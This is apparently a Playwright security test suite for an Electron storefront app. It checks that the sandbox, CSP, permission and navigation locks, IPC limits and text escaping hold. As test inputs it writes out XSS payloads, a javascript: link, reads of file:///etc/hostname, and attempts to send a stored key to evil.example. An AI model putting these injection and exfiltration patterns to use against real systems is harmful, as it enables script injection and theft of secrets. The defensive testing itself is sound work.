// What the page cannot do, tried in the running app.
import { createSocket } from 'node:dgram';
import { once } from 'node:events';
import { type AddressInfo, createServer as createTcpServer } from 'node:net';
import { contract } from '../../src/shared/contract.ts';
import { freePort } from '../support/free-port.ts';
import { createLink, createProduct, goTo, signIn } from '../support/seller.ts';
import { expect, test } from './service.ts';

test.use({
  needsWholeBrowser: true,
  allowedErrors: [/Content Security Policy|violates the following|ERR_BLOCKED_BY|not allowed to load|Unsafe/i],
});

test('the page has the app’s bridge and nothing of Node or Electron', async ({ page }) => {
  await expect(page.getByRole('heading', { name: 'Sign in to your store' })).toBeVisible();
  expect(page.url()).toMatch(/^(app:\/\/desk\/|https:\/\/desk\.app\.scheme\.localhost\/)index\.html/);
  const found = await page.evaluate(() => ({
    leaked: ['require', 'process', 'module', 'Buffer', 'global', 'ipcRenderer', 'electron'].filter((n) => n in window),
    bridge: Object.keys(Reflect.get(window, 'storefront')),
    frozen: Object.isFrozen(Reflect.get(window, 'storefront')),
    secure: isSecureContext,
  }));
  expect(found).toEqual({ leaked: [], bridge: ['invoke', 'on'], frozen: true, secure: true });
});

test('the main process accepts calls on the channels of the contract only', async ({ launchApp, service }) => {
  const app = await launchApp();
  await signIn(app.page, service);
  // By then files of the data folder have been opened.
  await createProduct(app.page, 'Coaching hour');
  // Electron listens on this channel too, so a message on it is no uncaught error.
  const ofApp = (await app.channels()).filter((channel) => channel !== 'error');
  expect(ofApp.sort()).toEqual(
    Object.keys(contract)
      .map((channel) => `desk:${channel}`)
      .sort(),
  );
});

test('the page runs no foreign code, and reaches no address', async ({ page }) => {
  await expect(page.getByRole('heading', { name: 'Sign in to your store' })).toBeVisible();
  const blocked = await page.evaluate(async () => {
    const violations = new Set<string>();
    Object.assign(window, { violations });
    document.addEventListener('securitypolicyviolation', (event) => violations.add(event.effectiveDirective));
    const add = (name: string, about: Record<string, string>) =>
      document.body.append(Object.assign(document.createElement(name), about));
    add('script', { textContent: 'window.ranInline = true' });
    add('script', { src: 'https://shop.example/x.js' });
    add('img', { src: 'https://shop.example/x.png' });
    add('iframe', { src: 'https://shop.example/' });
    add('a', { id: 'script-link', href: 'javascript:void(window.ranLink = true)' });
    document.getElementById('script-link')?.click();
    // Delayed, because code run by a debugger may use eval.
    const evaluated = await new Promise<string>((resolve) =>
      setTimeout(() => {
        try {
          // biome-ignore lint/security/noGlobalEval: the policy must stop it
          globalThis.eval('1');
          resolve('ran');
        } catch (error) {
          resolve((error as Error).name);
        }
      }),
    );
    const fetched = await fetch('https://shop.example/').then(
      () => 'reached',
      () => 'refused',
    );
    return {
      evaluated,
      fetched,
      ran: 'ranInline' in window || 'ranLink' in window,
    };
  });
  expect(blocked).toMatchObject({ evaluated: 'EvalError', fetched: 'refused', ran: false });
  // The policy itself blocked each of them, before there was a request.
  await expect
    .poll(() => page.evaluate(() => [...(Reflect.get(window, 'violations') as Set<string>)].sort()))
    .toEqual(['connect-src', 'frame-src', 'img-src', 'script-src', 'script-src-elem']);
});

test('the page reaches nobody by WebRTC, and saves no file by itself', async ({ launchApp }) => {
  const contacts = { tcp: 0, udp: 0 };
  const relay = createTcpServer((socket) => {
    contacts.tcp += 1;
    socket.destroy();
  }).listen(0, '127.0.0.1');
  const stun = createSocket('udp4').on('message', () => {
    contacts.udp += 1;
  });
  stun.bind(0, '127.0.0.1');
  await Promise.all([once(relay, 'listening'), once(stun, 'listening')]);
  const { page, outside } = await launchApp();
  await expect(page.getByRole('heading', { name: 'Sign in to your store' })).toBeVisible();
  await page.evaluate(
    async ([tcp, udp]) => {
      const connection = new RTCPeerConnection({
        iceServers: [
          { urls: `turn:127.0.0.1:${tcp}?transport=tcp`, username: 'x', credential: 'x' },
          { urls: `stun:127.0.0.1:${udp}` },
        ],
      });
      const gathered = new Promise<void>((resolve) => {
        connection.onicegatheringstatechange = () => connection.iceGatheringState === 'complete' && resolve();
      });
      connection.createDataChannel('x');
      await connection.setLocalDescription(await connection.createOffer());
      await gathered;
      const link = Object.assign(document.createElement('a'), {
        href: 'data:text/plain,x',
        download: 'made-by-a-page',
      });
      document.body.append(link);
      link.click();
    },
    [(relay.address() as AddressInfo).port, stun.address().port] as const,
  );
  // A question asked after it: a download would have begun by then.
  await page.getByRole('button', { name: 'Open the practice store' }).click();
  await expect(page.getByRole('heading', { name: 'Products' })).toBeVisible();
  expect(contacts).toEqual({ tcp: 0, udp: 0 });
  expect((await outside()).filter(({ kind }) => kind === 'download')).toEqual([]);
  relay.close();
  stun.close();
});

test('the page gets no permission and no clipboard access', async ({ page }) => {
  await expect(page.getByRole('heading', { name: 'Sign in to your store' })).toBeVisible();
  const answers = await page.evaluate(async () => {
    const answer = (asked: Promise<unknown>) =>
      asked.then(
        () => 'granted',
        () => 'denied',
      );
    return [
      (await navigator.permissions.query({ name: 'geolocation' })).state,
      Notification.permission,
      await Notification.requestPermission(),
      await answer(navigator.mediaDevices.getUserMedia({ video: true })),
      await answer(navigator.clipboard.writeText('https://evil.example/pay')),
      await answer(navigator.clipboard.readText()),
    ];
  });
  expect(answers).toEqual(Array(6).fill('denied'));
});

test('the window stays on its page, and the page opens no address in the browser', async ({ launchApp }) => {
  const app = await launchApp();
  const { page } = app;
  const heading = page.getByRole('heading', { name: 'Sign in to your store' });
  await expect(heading).toBeVisible();
  const address = page.url();
  await page.evaluate(() => {
    for (const url of ['file:///etc/hostname', 'http://shop.example/', 'https://shop.example/help']) window.open(url);
  });
  const refused = await page.evaluate(() =>
    (Reflect.get(window, 'storefront') as { invoke(channel: string, input: unknown): Promise<unknown> }).invoke(
      'browser.open',
      { url: 'https://shop.example/help' },
    ),
  );
  expect(refused).toMatchObject({ ok: false });
  for (const url of ['https://shop.example/', 'file:///etc/hostname', new URL('other.html', address).href]) {
    await page.evaluate((to) => location.assign(to), url);
    await expect(heading).toBeVisible();
    expect(page.url()).toBe(address);
  }
  // A refused window takes a moment to disappear.
  await expect.poll(() => page.context().pages().length).toBe(1);
  expect((await app.outside()).filter(({ kind }) => kind === 'open-external')).toEqual([]);
});

test('page code cannot get a secret out through app calls: a system dialog asks first and names the target', async ({
  launchApp,
  service,
}) => {
  const app = await launchApp();
  const { page } = app;
  await signIn(page, service);
  const call = (channel: string, input?: unknown) =>
    page.evaluate(
      ([name, given]) =>
        (Reflect.get(window, 'storefront') as { invoke(channel: string, input: unknown): Promise<unknown> }).invoke(
          name,
          given,
        ),
      [channel, input] as const,
    );
  const key = 'k3y'.repeat(21).concat('0');
  expect(await call('webhook.save', { url: 'https://hooks.example/', isOn: true, key })).toMatchObject({ ok: true });
  // What the page could answer itself if it were asked there.
  await page.evaluate(() => Object.assign(window, { confirm: () => true, prompt: () => 'yes' }));
  const evil = { serviceAddress: 'https://evil.example', email: 'mara@shop.example', password: key };
  for (const answer of [
    await call('webhook.revealKey'),
    await call('webhook.copySavedKey'),
    await call('session.signIn', evil),
    await call('browser.open', { url: `https://evil.example/?${key}` }),
  ]) {
    expect(answer).toMatchObject({ ok: false });
    expect(JSON.stringify(answer)).not.toContain(key);
  }
  expect(await app.clipboardText()).not.toContain(key);
  const asked = (await app.outside()).filter(({ kind }) => kind === 'dialog').map(({ what }) => what);
  expect(asked).toHaveLength(3);
  expect(asked[2]).toContain('Sign in to evil.example?');
  await app.answerDialogs({ message: 0 });
  expect(await call('webhook.revealKey')).toEqual({ ok: true, value: { key } });
});

test('text from outside stays text wherever it is shown', async ({ launchApp, service }) => {
  const { page } = await launchApp();
  const hostile = (where: string) =>
    `<img src=x onerror="window.ran='${where}'"><script>window.ran='${where}'</script><b>${where}</b>`;
  await signIn(page, service);
  await createProduct(page, hostile('title'));
  await createLink(page, 'title', '60', hostile('metadata'));
  await expect(page.getByRole('table', { name: 'Payment links' })).toContainText(`order: ${hostile('metadata')}`);
  // What the service says when it refuses a change.
  service.intercept = ({ path }) =>
    path.endsWith('/products') ? { status: 422, body: JSON.stringify({ message: hostile('refusal') }) } : undefined;
  await createProduct(page, 'Refused');
  await goTo(page, 'Sync');
  const change = page.getByRole('table', { name: 'Waiting changes' }).getByRole('row').filter({ hasText: 'Refused' });
  await change.click();
  await expect(page.getByText(hostile('refusal')).first()).toBeVisible();
  // What a stranger sends to the webhook inbox.
  const port = await freePort();
  await goTo(page, 'Webhook');
  const inbox = page.getByRole('region', { name: 'Webhook inbox' });
  await inbox.getByRole('textbox', { name: 'Port' }).fill(String(port));
  await inbox.getByRole('button', { name: 'Start inbox' }).click();
  const address = `http://127.0.0.1:${port}/after-sell`;
  await expect
    .poll(() =>
      fetch(address, { method: 'POST', body: hostile('body') }).then(
        ({ ok }) => ok,
        () => false,
      ),
    )
    .toBe(true);
  await page.getByRole('table', { name: 'Deliveries' }).getByRole('row').nth(1).click();
  await expect(page.getByRole('region', { name: 'Delivery', exact: true })).toContainText("window.ran='body'");
  await goTo(page, 'Products');
  await expect(page.getByRole('table', { name: 'Products' })).toContainText(hostile('title'));
  const found = await page.evaluate(() => ({
    ran: Reflect.get(window, 'ran') as unknown,
    made: document.querySelectorAll('img[src="x"], script:not([src])').length,
  }));
  expect(found).toEqual({ ran: undefined, made: 0 });
});

test('a bidirectional control character reverses none of our sentences, and stays in typed text', async ({
  launchApp,
  service,
}) => {
  const { page } = await launchApp();
  await signIn(page, service);
  const title = '\u202eLogo';
  await createProduct(page, title);
  await expect(page.getByRole('table', { name: 'Products' })).toContainText(title);
  const sent = () => service.requests.find(({ path }) => path.endsWith('/products'))?.raw ?? '{}';
  await expect.poll(() => JSON.parse(sent())).toMatchObject({ product_title: title });
  service.intercept = ({ path }) =>
    path.endsWith('/products') ? { status: 422, body: JSON.stringify({ message: '\u202eprice\u2067' }) } : undefined;
  await createProduct(page, 'Refused');
  await goTo(page, 'Sync');
  const change = page.getByRole('table', { name: 'Waiting changes' }).getByRole('row').filter({ hasText: 'Refused' });
  await change.click();
  const said = page.getByText('The service refused this: price (422)').first();
  await expect(said).toBeVisible();
  // In logical order: the status appears to the right of the word.
  const isInOrder = () =>
    said.evaluate((element) => {
      const text = document.createTreeWalker(element, NodeFilter.SHOW_TEXT).nextNode() as Text;
      const [word = 0, status = 0] = ['price', '(422)'].map((part) => {
        const range = document.createRange();
        range.setStart(text, text.data.indexOf(part));
        range.setEnd(text, text.data.indexOf(part) + part.length);
        return range.getBoundingClientRect().left;
      });
      return word < status;
    });
  // A row that is drawn again in between has no place.
  await expect.poll(isInOrder).toBe(true);
});
